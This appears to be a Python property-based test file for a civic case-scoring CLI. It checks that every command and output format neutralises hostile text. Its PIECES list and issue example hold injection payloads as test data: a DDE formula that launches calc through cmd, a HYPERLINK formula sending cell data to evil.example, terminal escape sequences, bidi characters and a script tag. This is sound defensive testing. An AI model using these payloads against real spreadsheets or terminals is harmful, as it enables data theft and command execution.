"""Property: whatever text an export or a profile holds, every command and every output format stays
safe (issue 8). Hypothesis writes hostile text (formula prefixes, control, ANSI/OSC and bidi
characters, phone and ID numbers in every form, e-mail addresses, ``|`` and line breaks, ``<script>``)
into every free-text field of the case records and every name of the profile, then every entry of
``REGISTRY`` runs in every one of its formats and its output is read back:

- no live formula (CSV read back with ``csv``, XLSX with openpyxl: no formula cell, no text cell
  starting with a formula character unless quote-prefixed);
- no unmasked personal number (no run of 11 or more digits) in any text, stdout or stderr;
- no broken Markdown table (one line a row, the same number of cells on each);
- no raw control character in output meant for a terminal, no live ``<script>`` in HTML;
- no traceback, and the exit code the command documents.

A new command is one more line in ``REGISTRY``.
"""

from __future__ import annotations

import csv
import io
import json
import re
import tomllib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import tomli_w
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from jiesu.cli.app import app
from tests.test_hostile import markdown_cells

FIX = Path(__file__).resolve().parents[1] / "fixtures"
runner = CliRunner()

UNMASKED = re.compile(r"(?<![0-9])[0-9](?:[ \-]?[0-9]){10,}(?![0-9])")
RAW_CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")

PIECES = [
    "=", "+", "-", "@", "\t", "\r", "\r\n", "\n", "|", "\\", "`", "*", "_", "[x](http://evil.example)",
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
    "\uff1dSUM(1)", "\x1b[31m", "\x1b[2J", "\x1b]8;;http://evil.example\x07", "\x07", "\x7f", "\x9b",
    "\u202e", "\u2066", "\u200b", "\ufeff", "<script>alert(1)</script>", "&amp;", "\"", "'", ",", ";",
    "13812345678", "138-1234-5678", "138 1234 5678", "+8613812345678", "008613812345678",
    "+86 138 1234 5678", "110105491231002", "11010519491231002X", "110105194912310021", "x@example.com",
    "北京 a",
]
#: profile names may also hold NUL (TOML escapes it); case files may not (a NUL byte is no text)
NAME_PIECES = [*PIECES, "\x00"]


def hostile(pieces: list[str]) -> st.SearchStrategy[str]:
    """Text around at least one hostile piece, with a little ordinary text; 1 to 200 characters."""
    some = st.lists(st.one_of(st.sampled_from(pieces), st.text(alphabet="ab 1-.", max_size=3)), max_size=2)
    return st.tuples(some, st.sampled_from(pieces), some).map(
        lambda t: "".join(t[0]) + t[1] + "".join(t[2])).map(lambda s: (s if s.strip() else s + "x")[:200])


@dataclass
class World:
    """The files one example writes: case records, a profile, a Boston export, and where to put outputs."""

    folder: Path
    cases: Path
    profile: Path
    boston: Path
    by: str
    outputs: list[Path] = field(default_factory=list)

    @property
    def by_dispute(self) -> str:
        return "category" if self.by == "category" else "unit"

    def out(self, name: str) -> Path:
        path = self.folder / name
        self.outputs.append(path)
        return path


@dataclass(frozen=True)
class Run:
    """One command of the registry: its arguments, its formats and the exit codes it documents."""

    name: str
    args: Callable[[World], list[object]]
    formats: tuple[str, ...]
    exits: frozenset[int]
    #: formats written to a file (-o); the others are read from stdout
    files: tuple[str, ...] = ("parquet", "xlsx")
    format_option: bool = True
    #: the file written is case records for jiesu to read (ids of 11+ digits are data), not a report
    records: bool = False


MMC = FIX / "scenarios" / "mmc.toml"
ANALYSIS = ("table", "csv", "json", "markdown", "xlsx", "html")
REGISTRY = [
    Run("validate", lambda w: ["validate", w.cases, "-p", w.profile], ("table", "json", "github", "junit", "markdown"),
        frozenset({0, 1})),
    Run("score", lambda w: ["score", w.cases, "-p", w.profile, "--by", w.by],
        ("table", "csv", "json", "jsonl", "markdown", "parquet"), frozenset({0})),
    Run("rank", lambda w: ["rank", w.cases, "-p", w.profile, "--month", "2024-02"],
        ("table", "csv", "json", "jsonl", "markdown", "parquet", "xlsx", "html"), frozenset({0})),
    Run("profile show", lambda w: ["profile", "show", "-p", w.profile, "--units"], ("table", "json"), frozenset({0})),
    Run("profile check", lambda w: ["profile", "check", w.profile], ("table",), frozenset({0, 1}), format_option=False),
    Run("profile diff", lambda w: ["profile", "diff", FIX / "scoring" / "profile.toml", w.profile, w.cases],
        ("table", "json", "markdown"), frozenset({0})),
    Run("warn", lambda w: ["warn", w.cases, "-p", w.profile, "--month", "2024-02"], ANALYSIS, frozenset({0})),
    Run("trend", lambda w: ["trend", w.cases, "-p", w.profile, "--from", "2024-01", "--to", "2024-02"], ANALYSIS,
        frozenset({0})),
    Run("disputes", lambda w: ["disputes", w.cases, "-p", w.profile, "--month", "2024-02", "--by", w.by_dispute],
        ANALYSIS, frozenset({0})),
    Run("topics candidates", lambda w: ["topics", "candidates", w.cases, "-p", w.profile, "--from", "2024-01",
                                        "--to", "2024-02"], ANALYSIS, frozenset({0})),
    Run("topics track", lambda w: ["topics", "track", w.cases, "-p", w.profile, "--month", "2024-02"], ANALYSIS,
        frozenset({0})),
    Run("simulate", lambda w: ["simulate", "-s", MMC, "-p", w.profile, "-d", "1", "--set",
                               "intake.arrival_rate_per_hour=30", "--summary", w.out("summary.json")],
        ("parquet",), frozenset({0}), format_option=False, records=True),
    Run("import", lambda w: ["import", w.boston, "-m", "boston-311", "-o", w.out("import.parquet"), "--profile-out",
                             w.out("boston.toml")], ("table", "json"), frozenset({0}), files=()),
    Run("rank imported", lambda w: ["rank", w.folder / "import.parquet", "-p", w.folder / "boston.toml",
                                    "--month", "2015-03", "--level", "department"], ("xlsx", "markdown", "csv"),
        frozenset({0})),
    Run("score timeliness", lambda w: ["score", w.folder / "import.parquet", "-p", w.folder / "boston.toml", "--by",
                                       "unit", "--metrics", "timeliness"],
        ("table", "csv", "json", "jsonl", "markdown", "parquet"), frozenset({0})),
    Run("profile infer", lambda w: ["profile", "infer", w.boston, "-m", "boston-311"], ("table",), frozenset({0}),
        format_option=False, records=True),
    Run("export", lambda w: ["export", "--to", "open311", w.cases, "-p", w.profile], ("json", "ndjson"),
        frozenset({0}), files=("json", "ndjson"), records=True),
    Run("report", lambda w: ["report", w.cases, "-p", w.profile, "--month", "2024-02"], ("html", "xlsx"),
        frozenset({0}), files=("html", "xlsx")),
    Run("report imported", lambda w: ["report", w.folder / "import.parquet", "-p", w.folder / "boston.toml",
                                      "--month", "2015-03"], ("html", "xlsx"), frozenset({0}), files=("html", "xlsx")),
    Run("mapping check", lambda w: ["mapping", "check", "boston-311"], ("table",), frozenset({0}),
        format_option=False),
    Run("mapping list", lambda w: ["mapping", "list"], ("table",), frozenset({0}), format_option=False),
    Run("mapping show", lambda w: ["mapping", "show", "cn-12345"], ("table",), frozenset({0}), format_option=False),
]


# ---------------------------------------------------------------- writing one example's inputs

def write_cases(path: Path, values: dict[str, str], case_id: str, column: str, fmt: str) -> None:
    """The scoring fixture with hostile text in every free-text field, one hostile case_id and an
    extra column with a hostile name and value."""
    with open(FIX / "scoring" / "cases.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for i, row in enumerate(rows):
        for key, text in values.items():
            if i % 2 == 0 or key == "topic":
                row[key] = text
        row[column] = values["topic"]
    rows[1]["case_id"] = case_id
    if fmt == "csv":
        with open(path, "w", encoding="utf-8", newline="") as fh:
            w = csv.DictWriter(fh, fieldnames=list(rows[0]))
            w.writeheader()
            w.writerows(rows)
        return
    with open(path, "w", encoding="utf-8") as fh:
        for row in rows:
            rec = {k: v for k, v in row.items() if v != ""}
            for k in ("callback_valid", "contacted", "resolved", "excluded"):
                if k in rec:
                    rec[k] = rec[k] == "true"
            fh.write(json.dumps(rec, ensure_ascii=False) + "\n")


def write_profile(path: Path, names: list[str]) -> None:
    data = tomllib.loads((FIX / "scoring" / "profile.toml").read_text(encoding="utf-8"))
    data["city"]["name"], data["city"]["name_en"] = names[0], names[1]
    for i, unit in enumerate(data["units"]):
        unit["name"] = names[(i + 2) % len(names)]
    for i, cat in enumerate(data["categories"]):
        cat["name"] = names[(i + 3) % len(names)]
    data["topics"] = [{"code": "T1", "theme": names[0], "name": names[1], "name_en": names[2],
                       "categories": [data["categories"][0]["code"]], "lead": "M1", "start": "2024-01"}]
    path.write_text(tomli_w.dumps(data), encoding="utf-8")


def write_boston(path: Path, queue: str, kind: str, hood: str) -> None:
    columns = ["CASE_ENQUIRY_ID", "OPEN_DT", "TARGET_DT", "CLOSED_DT", "CASE_STATUS", "TYPE", "QUEUE", "Source",
               "neighborhood"]
    rows = [["101000000001", "03/02/2015 10:00:00 AM", "03/04/2015 10:00:00 AM", "03/03/2015 10:00:00 AM",
             "Closed", kind, queue, "Constituent Call", hood],
            ["101000000002", "03/03/2015 10:00:00 AM", "", "", "Open", "Pothole", queue, "Self Service", "Roxbury"]]
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([columns, *rows])


# ---------------------------------------------------------------- checking what came out

def _texts(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [t for k, v in value.items() for t in (*_texts(k), *_texts(v))]
    if isinstance(value, list):
        return [t for v in value for t in _texts(v)]
    return []


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def check_text(where: str, texts: list[str], terminal: bool = False) -> None:
    for text in texts:
        assert not UNMASKED.search(text), (where, text)
        if terminal:
            assert not RAW_CONTROL.search(text), (where, text)


def check_output(where: str, fmt: str, data: bytes) -> None:
    if fmt == "parquet":
        table = pq.read_table(pa.BufferReader(data))
        check_text(where, [t for col in table.columns for t in _texts(col.to_pylist())])
        return
    if fmt == "xlsx":
        from openpyxl import load_workbook

        for ws in load_workbook(io.BytesIO(data)):
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", (where, c.coordinate, c.value)
                    if isinstance(c.value, str):
                        check_text(where, [c.value])
                        assert c.quotePrefix or not c.value.lstrip(" ").startswith(FORMULA_START), (where, c.value)
        return
    text = data.decode("utf-8")
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row if not _is_number(c)]
        for cell in cells:
            assert not cell.lstrip(" ").startswith(FORMULA_START), (where, cell)
        check_text(where, cells)
    elif fmt == "json":
        check_text(where, _texts(json.loads(text)))
    elif fmt == "jsonl":
        check_text(where, [t for line in text.splitlines() for t in _texts(json.loads(line))])
    elif fmt == "markdown":
        tables: list[list[str]] = []  # runs of lines starting with |
        for i, line in enumerate(text.splitlines()):
            if line.startswith("|"):
                if i == 0 or not text.splitlines()[i - 1].startswith("|"):
                    tables.append([])
                tables[-1].append(line)
        assert tables, (where, text)
        for table in tables:  # a line break in a cell splits a row: a run without its rule line
            assert len(table) >= 2 and re.fullmatch(r"\|[\s:|-]+\|", table[1]), (where, table)
            assert len({markdown_cells(ln) for ln in table}) == 1, (where, table)
        check_text(where, [text], terminal=True)
    elif fmt == "junit":
        import xml.etree.ElementTree as ET

        try:
            root = ET.fromstring(text)
        except ET.ParseError as exc:  # a raw control character is no XML
            raise AssertionError((where, str(exc))) from None
        check_text(where, [t for el in root.iter() for t in [el.text or "", *el.attrib.values()]])
    elif fmt == "html":
        # the monthly page's own script (and nothing else) may run
        from jiesu.report.html import SCRIPT

        assert "<script" not in text.replace(f"<script>{SCRIPT}</script>", "").lower(), where
        check_text(where, [text])
    else:  # table, github: for a terminal or a log
        if fmt == "github":
            assert all(ln.startswith("::") for ln in text.splitlines()), (where, text)
        check_text(where, [text], terminal=True)


def run_everything(world: World) -> None:
    for entry in REGISTRY:
        for fmt in entry.formats:
            where = f"{entry.name} -f {fmt}"
            args = [str(a) for a in entry.args(world)]
            target = None
            if fmt in entry.files:
                target = world.out(f"{entry.name.replace(' ', '-')}.{fmt}")
                args += ["-o", str(target)]
            if entry.format_option:
                args += ["-f", fmt]
            result = runner.invoke(app, args)
            assert result.exception is None or isinstance(result.exception, SystemExit), (where, repr(result.exception))
            assert "Traceback" not in result.stderr, where
            assert result.exit_code in entry.exits, (where, result.exit_code, result.stderr)
            check_text(where + " (stderr)", [result.stderr], terminal=True)
            data = target.read_bytes() if target is not None else result.stdout_bytes
            if not entry.records:
                check_output(where, fmt, data)
            elif fmt in ("json", "ndjson"):  # records (ids of 11+ digits are data), but well-formed
                lines = [data] if fmt == "json" else data.splitlines()
                assert all(json.loads(line) is not None for line in lines), where
    summary = json.loads((world.folder / "summary.json").read_text(encoding="utf-8"))
    check_text("simulate --summary", _texts(summary))


# ---------------------------------------------------------------- the property

FIELDS = ("category", "district", "street", "unit", "topic")


ISSUE_EXAMPLE = {  # the strings of issue 8 itself, always run first
    "values": {"category": '=HYPERLINK("http://evil.example/?"&A1,"x")', "district": "+cmd|' /C calc'!A0",
            "street": "@SUM(1+1) 138-1234-5678", "unit": "-2+3 \x1b]8;;http://evil.example\x07",
            "topic": "a|b\n\x1b[31m+8613812345678 110105491231002 x@example.com"},
    "case_id": "13812345678", "column": "13812345678",
    "names": ['=HYPERLINK("http://evil.example/?"&A1,"x")', "bell\x07\u202e 008613812345678", "<script>|\n",
           "11010519491231002X"],
    "boston": ('=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "+8613812345678"),
    "fmt": "csv", "by": "category",
}


@example(**ISSUE_EXAMPLE)
@settings(max_examples=3, derandomize=True, deadline=None, phases=[Phase.explicit, Phase.generate],
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(
    values=st.fixed_dictionaries({f: hostile(PIECES) for f in FIELDS}),
    case_id=hostile(PIECES),
    column=hostile(PIECES),
    names=st.lists(hostile(NAME_PIECES), min_size=4, max_size=4),
    boston=st.tuples(hostile(PIECES), hostile(PIECES), hostile(PIECES)),
    fmt=st.sampled_from(["csv", "ndjson"]),
    by=st.sampled_from(["unit", "street", "district", "category", "unit_level"]),
)
def test_every_command_and_format_survives_hostile_text(tmp_path_factory, values, case_id, column, names, boston,
                                                         fmt, by):
    folder = tmp_path_factory.mktemp("hostile")
    world = World(folder, folder / f"cases.{fmt}", folder / "profile.toml", folder / "boston.csv", by)
    write_cases(world.cases, values, case_id, column, fmt)
    write_profile(world.profile, names)
    write_boston(world.boston, *boston)
    run_everything(world)


def test_the_registry_covers_every_command():
    """A command added to the CLI must be added to REGISTRY (or listed here as having no outputs)."""
    import typer

    from jiesu.cli.docs import _commands

    commands = {" ".join(path) for path in _commands(typer.main.get_command(app), [])}
    # demo reads no input, schema diff reads schema files (not data or profiles); the others are groups
    without_data_output = {"demo", "profile", "schema", "schema diff", "topics", "mapping"}
    covered = {entry.name for entry in REGISTRY}
    missing = commands - without_data_output - covered
    assert not missing, f"add {sorted(missing)} to REGISTRY in {__file__}"


@pytest.mark.parametrize(("fmt", "data"), [
    ("csv", "h\n13812345678x\n"), ("csv", "h\n=1+1\n"), ("table", "a\x1b[31m"), ("json", '["+8613812345678"]'),
    ("markdown", "| h |\n|---|\n| a|b |\n"), ("markdown", "| h |\n|---|\n| a\nb |\n| c |\n"), ("html", "<script>"),
    ("junit", "<testsuite name='13812345678'/>"), ("junit", "<a>\x1b</a>"),
])
def test_the_checks_catch_what_they_look_for(fmt, data):
    """The checks above are not vacuous: raw hostile text fails them."""
    with pytest.raises(AssertionError):
        check_output("raw", fmt, data.encode())
